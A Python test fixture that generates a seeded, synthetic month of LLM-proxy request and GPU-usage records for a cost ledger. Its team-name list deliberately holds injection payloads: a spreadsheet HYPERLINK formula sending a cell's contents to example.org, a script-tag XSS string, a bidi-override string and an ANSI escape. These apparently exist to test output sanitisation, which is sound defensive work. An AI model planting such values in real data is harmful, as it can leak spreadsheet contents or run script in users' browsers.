"""A month to look at: twelve teams, two fleets and two APIs, an outage, quiet weekends that lose money, names that mean
harm. From a seed, so that it is the same for every test."""

from __future__ import annotations

import asyncio
import random
from decimal import Decimal

from proxy.core.entries import RequestEntry
from proxy.core.money import NS_PER_HOUR, NS_PER_MINUTE, NS_PER_S, nano
from proxy.core.savings import GpuMinute, RateLine
from proxy.core.usage import Usage
from proxy.ledger.journal import Journal

BEGAN = 1_793_491_200 * NS_PER_S  # 2026-11-01T00:00Z
DAYS = 30
ENDED = BEGAN + DAYS * 24 * NS_PER_HOUR
TEAMS = ("search", "assistant", "support", "coding", "analytics", "translation", "risk", "marketing",
         '=HYPERLINK("https://example.org/?"&A1,"total")', "<script>alert(1)</script>", "\u202eתמיכה\u2066", "ops\x1b[31m")
ROUTES = ("gpt-4o", "gpt-4o-mini", "claude-sonnet", "text-embedding-3-small")
CARD = [
    RateLine("gpu", "llama-70b", Decimal("2.78"), BEGAN),
    RateLine("gpu", "qwen-32b", Decimal("0.62"), BEGAN, energy="metered", watts=Decimal(700), idle_watts=Decimal(140)),
    RateLine("electricity", "electricity", Decimal("0.21"), BEGAN, pue=Decimal("1.25")),
    RateLine("overhead", "engineering", Decimal(400), BEGAN), RateLine("overhead", "storage", Decimal(35), BEGAN),
]
OUTAGE_DAY = 11


def entries(requests: int, seed: int = 7) -> list[RequestEntry]:
    chance = random.Random(seed)
    weights = [1 if day % 7 in (0, 6) else 9 for day in range(DAYS)]
    return [_entry(number, chance, weights) for number in range(requests)]


def _entry(number: int, chance: random.Random, weights: list[int]) -> RequestEntry:
    day = chance.choices(range(DAYS), weights)[0]
    at = BEGAN + day * 24 * NS_PER_HOUR + int(chance.triangular(0, 24, 14) * NS_PER_HOUR) % (24 * NS_PER_HOUR)
    at = min(at, ENDED - 3 * NS_PER_MINUTE)
    where = chance.random()
    backend, kind = ("openai", "api") if where > 0.8 or day == OUTAGE_DAY else ("anthropic", "api") if where > 0.72 else (
        "qwen-32b", "gpu") if where > 0.45 else ("llama-70b", "gpu")
    tokens = Usage(input_text=chance.randrange(20_000, 900_000), cache_read=chance.randrange(0, 90_000),
                   output_text=chance.randrange(5_000, 150_000))
    baseline = nano(Decimal(tokens.input_text * 25 + tokens.cache_read * 12 + tokens.output_text * 100) / 10**7)
    api = baseline if backend == "openai" else baseline * 9 // 10 if kind == "api" else 0
    failed, unknown = chance.random() < 0.01, chance.random() < 0.002
    estimated = chance.random() < 0.004
    return RequestEntry(
        f"m{number}", 1, True, at, at, at, at + 100 * NS_PER_S, "/v1/chat/completions", True,
        chance.choices(ROUTES, (6, 3, 2, 1))[0], f"key_{int(chance.triangular(0, 20, 3))}",
        f"app=web,team={chance.choices(TEAMS, range(len(TEAMS), 0, -1))[0]}", "gpt-4o", backend, kind,
        f"{backend}-model", 502 if failed else 200, "upstream_error" if failed else "complete", tokens,
        "estimated" if estimated else "upstream_final", 10, api, "", nano("0.0002") if backend == "qwen-32b" else 0,
        (30 + number % 50) * NS_PER_S if kind == "gpu" else 0, None if failed or unknown else baseline, "gpt-4o", "v1", 0,
        chance.random() > 0.03, "cheapest")


def minutes(seed: int = 7) -> list[GpuMinute]:
    """Watched all the time; some of it others' work, some of it starting up after the outage."""
    chance = random.Random(seed)
    first = BEGAN // NS_PER_MINUTE
    return [GpuMinute(name, first + minute, 0, NS_PER_MINUTE, int(chance.random() < 0.05) * 20 * NS_PER_S,
                      50 * NS_PER_S if minute // 1440 == OUTAGE_DAY + 1 and minute % 1440 < 90 else 0)
            for name in ("llama-70b", "qwen-32b") for minute in range(0, DAYS * 1440, 3)]


def make(url: str, requests: int = 6000) -> None:
    """Fills a new ledger."""
    async def fill() -> None:
        async with Journal(url) as journal:
            await journal.record_rates(CARD, BEGAN)
            booked = entries(requests)
            for first in range(0, len(booked), 2000):
                await asyncio.gather(*(journal.settle(one) for one in booked[first:first + 2000]))
            await journal.book_gpu_minutes(minutes())

    asyncio.run(fill())
